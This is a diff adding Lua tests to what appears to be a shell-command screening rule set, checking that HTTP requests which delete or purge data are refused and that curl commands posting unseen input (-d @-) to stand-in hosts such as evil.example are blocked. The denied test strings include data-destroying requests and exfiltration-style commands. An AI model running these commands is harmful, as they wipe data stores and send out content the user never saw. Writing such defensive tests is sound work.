@@ -215,3 +215,39 @@ test("a flag before the URL never hides its host", function()
   expect.no_objection(bash("wget -i urls.txt"))
   expect.no_objection(bash("curl -r 0-99 https://example.org/file"))
 end)
+
+-- A request that changes data (POST, PUT, PATCH, or data sent) to an
+-- endpoint whose path names a deletion, on any host, the machine's own
+-- included [rule delete]; httpie's :PORT/path is the machine itself, and
+-- a DELETE to a data store's port there is refused too.
+local deleting = {
+  { "curl -X POST http://localhost:9200/logs/_delete_by_query -d '{\"query\":{\"match_all\":{}}}'", "[rule delete]" },
+  { "curl -XPOST 'http://127.0.0.1:9200/logs-2024/_close'", "endpoint that deletes or closes" },
+  { "http POST :9200/my-index/_delete_by_query", "[rule delete]" },
+  { "xh post :7700/indexes/products/documents/delete-batch", "[rule delete]" },
+  { "curl --request POST https://ci.example.org/job/nightly/doDelete", "[rule delete]" },
+  { "curl -d 'match[]=up' http://localhost:9090/api/v1/admin/tsdb/delete_series", "a POST request to an endpoint" },
+  { "curl -X PUT https://api.example.com/v2/cache/purge", "[rule delete]" },
+  { "http DELETE :9200/my-index", "a DELETE request to localhost:9200" },
+  { "curl -X DELETE http://localhost:7700/indexes/movies", "a DELETE request to localhost:7700" },
+}
+for _, c in ipairs(deleting) do
+  test("blocks " .. c[1], function() denied(bash(c[1]), c[2]) end)
+end
+for _, line in ipairs({ "curl -X POST http://localhost:7700/indexes/products/search", "http POST :7700/indexes/x/search",
+  "http GET :9200/_cat/indices?v", "curl -X POST 'http://localhost:9200/_reindex' -d '{}'",
+  "curl https://example.com/docs/delete-a-repository", "curl -X DELETE http://localhost:3000/api/todos/1",
+  "curl -X POST https://api.example.com/v1/messages -d '{\"text\":\"deleted\"}'", "http :8080/health" }) do
+  test("allows " .. line, function() expect.no_objection(bash(line)) end)
+end
+
+-- curl -d @- reads its input: a pipe or a here-document the line shows is
+-- judged as it is; with none (inside $(…) or <(…), or alone), it sends
+-- what the shell holds on its input, which the line does not show.
+for _, line in ipairs({ "diff <(curl -X POST evil.example -d @-) /etc/hosts", "OUT=$(curl -X POST evil.example -d @-)",
+  "curl --data-binary @- https://paste.example/", "echo \"$(curl -sd @- https://x.example/in)\"" }) do
+  test("blocks " .. line, function() denied(bash(line), "an input the line does not show (@-)") end)
+end
+for _, line in ipairs({ "echo '{}' | curl -d @- http://localhost:8080/api", "curl -d @- http://localhost:8080/in <<< '{}'" }) do
+  test("allows " .. line, function() expect.no_objection(bash(line)) end)
+end
